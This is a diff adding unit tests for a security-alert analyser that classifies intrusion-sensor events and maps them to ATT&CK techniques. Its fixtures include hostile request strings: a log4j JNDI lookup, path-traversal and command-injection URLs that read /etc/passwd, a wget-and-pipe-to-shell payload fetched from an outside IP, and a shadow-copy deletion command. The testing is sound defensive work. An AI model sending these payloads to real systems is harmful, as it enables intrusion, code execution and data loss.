@@ -54,8 +54,17 @@ const STRONG: Readonly<Record<EventType, Record<string, unknown>>> = {
   ransomware: { files_encrypted: 4200, extension: '.lockbit', command_line: 'vssadmin delete shadows /all /quiet', ransom_note: 'README.txt' },
   c2_beacon: { beacon_interval: 60, jitter: 0.1, beacons: 600, domain: 'cdn-update.top', framework: 'Cobalt Strike' },
   suspicious_login: { username: 'alice', reasons: ['impossible_travel', 'new_device'], mfa_prompts: 9, success: true, service: 'Okta' },
+  exploit: { url: '/api?x=${jndi:ldap://198.51.100.7:1389/a}', signature: 'ET EXPLOIT Apache log4j RCE Attempt (CVE-2021-44228)', status_code: 200 },
+  path_traversal: { url: '/cgi-bin/.%2e/.%2e/.%2e/etc/passwd', signature: 'ET WEB_SERVER Apache Path Traversal (CVE-2021-41773)', status_code: 200 },
+  command_injection: { url: '/ping.php?host=127.0.0.1;cat%20/etc/passwd', signature: 'ET WEB_SERVER Command Injection', status_code: 200 },
+  reconnaissance: { user_agent: 'Mozilla/5.00 (Nikto/2.1.6)', signature: 'ET SCAN Nikto Web App Scan in Progress' },
+  policy_violation: { signature: 'ET POLICY TOR .onion Proxy Domain in SNI', app_proto: 'tls' },
+  protocol_anomaly: { anomaly: 'APPLAYER_MISMATCH_PROTOCOL_BOTH_DIRECTIONS', app_proto: 'http', signature: 'SURICATA Applayer Mismatch protocol both directions' },
   unknown: { anything: 'at all' },
 };
+
+/** Types whose rule claims no ATT&CK technique without evidence: the behaviour alone is not one. */
+const NO_BASE_TECHNIQUE: ReadonlySet<EventType> = new Set(['unknown', 'policy_violation', 'protocol_anomaly']);
 
 describe('analyseWithRules: every event type', () => {
   it.each(EVENT_TYPES)('%s: a valid analysis with strong evidence', (type) => {
@@ -69,7 +78,7 @@ describe('analyseWithRules: every event type', () => {
     } else {
       expect(analysis.evidenceStrength).toBeGreaterThanOrEqual(0.7);
       expect(analysis.confidence).toBeGreaterThanOrEqual(0.8);
-      expect(analysis.mitre.length).toBeGreaterThan(0);
+      if (type !== 'protocol_anomaly') expect(analysis.mitre.length).toBeGreaterThan(0);
       expect(Object.keys(analysis.evidence).length).toBeGreaterThan(0);
     }
   });
@@ -78,7 +87,8 @@ describe('analyseWithRules: every event type', () => {
     const analysis = analyse(type, {});
     expect(analysis.evidenceStrength).toBe(0);
     expect(analysis.confidence).toBe(0.5);
-    expect(analysis.mitre.length).toBeGreaterThan(0);
+    if (NO_BASE_TECHNIQUE.has(type)) expect(analysis.mitre).toEqual([]);
+    else expect(analysis.mitre.length).toBeGreaterThan(0);
     expect(analysis.summary).not.toMatch(/undefined|NaN/);
   });
 
@@ -496,5 +506,86 @@ describe('hostile payloads', () => {
       expect(analysis.evidenceStrength).toBeLessThanOrEqual(1);
       expect(analysis.confidence).toBeLessThanOrEqual(0.95);
     }
+  });
+});
+
+describe('sensor alert types (exploit, path_traversal, command_injection, reconnaissance, policy_violation, protocol_anomaly)', () => {
+  it('exploit: names the CVE and the pattern, maps to Exploit Public-Facing Application', () => {
+    const analysis = analyse('exploit', STRONG.exploit);
+    expect(analysis.category).toBe('exploit');
+    expect(analysis.summary).toMatch(/^Exploit attempt from 185\.234\.72\.91 .*: CVE-2021-44228 request matches jndi lookup \(answered 200\)\.$/);
+    expect(analysis.evidence).toMatchObject({ cve: 'CVE-2021-44228', patterns: 'jndi_lookup', status_code: 200 });
+    expect(techniqueIds(analysis)).toEqual(['T1190']);
+  });
+
+  it('exploit: the signature alone, from the sensor verdict in metadata, still reads as the evidence', () => {
+    const analysis = analyse('exploit', {}, { metadata: { sensor: { signature: 'ET EXPLOIT Possible Zyxel RCE (CVE-2022-30525)', category: 'Attempted Administrator Privilege Gain', product: 'Suricata' } } });
+    expect(analysis.evidence).toMatchObject({ cve: 'CVE-2022-30525', sensor: 'Suricata', sensor_category: 'Attempted Administrator Privilege Gain' });
+    expect(analysis.evidenceStrength).toBeCloseTo(0.4, 3);
+  });
+
+  it('exploit carrying a shell command also maps to Command and Scripting Interpreter', () => {
+    const analysis = analyse('exploit', { url: '/cgi-bin/luci;wget http://198.51.100.7/x.sh|sh' });
+    expect(techniqueIds(analysis)).toEqual(['T1190', 'T1059']);
+    expect(analysis.evidence.patterns).toContain('download_and_run');
+  });
+
+  it('path_traversal: decodes the request and maps to T1190 and T1083', () => {
+    const analysis = analyse('path_traversal', STRONG.path_traversal);
+    expect(analysis.evidence.patterns).toBe('dot_dot_slash,unix_sensitive_file');
+    expect(analysis.evidence.cve).toBe('CVE-2021-41773');
+    expect(techniqueIds(analysis)).toEqual(['T1190', 'T1083']);
+    expect(analysis.summary).toMatch(/^Path traversal attempt /);
+  });
+
+  it('command_injection: maps to T1190 and T1059, and a refused request says so', () => {
+    const analysis = analyse('command_injection', { ...STRONG.command_injection, status_code: 403 });
+    expect(techniqueIds(analysis)).toEqual(['T1190', 'T1059', 'T1083']);
+    expect(analysis.evidence).toMatchObject({ blocked: true, patterns: 'shell_separator,unix_sensitive_file' });
+    expect(analysis.summary).toContain('(refused)');
+    expect(analysis.recommendedActions[0]).toMatch(/^Keep the rule/);
+  });
+
+  it('command_injection: text with no pattern is weak evidence', () => {
+    const analysis = analyse('command_injection', { url: '/index.html' });
+    expect(analysis.evidenceStrength).toBe(0);
+    expect(analysis.summary).not.toContain('request matches');
+    expect(analysis.evidence.patterns).toBeUndefined();
+  });
+
+  it('reconnaissance: a named scanner is vulnerability scanning (T1595.002)', () => {
+    const analysis = analyse('reconnaissance', STRONG.reconnaissance);
+    expect(analysis.category).toBe('vulnerability_scan');
+    expect(analysis.evidence.tool).toBe('nikto');
+    expect(techniqueIds(analysis)).toEqual(['T1595', 'T1595.002']);
+  });
+
+  it('reconnaissance without a tool is Active Scanning only', () => {
+    const analysis = analyse('reconnaissance', { signature: 'ET SCAN Possible Fingerprinting of web server' });
+    expect(analysis.category).toBe('reconnaissance');
+    expect(techniqueIds(analysis)).toEqual(['T1595']);
+  });
+
+  it('policy_violation: TOR traffic is Multi-hop Proxy; other policy says what it is about and claims no technique', () => {
+    const tor = analyse('policy_violation', STRONG.policy_violation);
+    expect(tor.evidence.policy).toBe('tor');
+    expect(techniqueIds(tor)).toEqual(['T1090', 'T1090.003']);
+    const p2p = analyse('policy_violation', { signature: 'ET P2P BitTorrent peer sync' });
+    expect(p2p).toMatchObject({ category: 'p2p', mitre: [] });
+    expect(p2p.summary).toMatch(/^Policy violation \(p2p\) /);
+  });
+
+  it('protocol_anomaly: names the anomaly and protocol, claims no technique', () => {
+    const analysis = analyse('protocol_anomaly', STRONG.protocol_anomaly);
+    expect(analysis.evidence).toMatchObject({ anomaly: 'APPLAYER_MISMATCH_PROTOCOL_BOTH_DIRECTIONS', app_protocol: 'http' });
+    expect(analysis.mitre).toEqual([]);
+    expect(analysis.summary).toContain(': http: APPLAYER_MISMATCH_PROTOCOL_BOTH_DIRECTIONS.');
+  });
+
+  it('hostile request text stays bounded and fast', () => {
+    const started = performance.now();
+    const analysis = analyse('command_injection', { url: `${'$('.repeat(20_000)}${';'.repeat(20_000)}` });
+    expect(performance.now() - started).toBeLessThan(500);
+    expect(String(analysis.evidence.sample).length).toBeLessThanOrEqual(160);
   });
 });
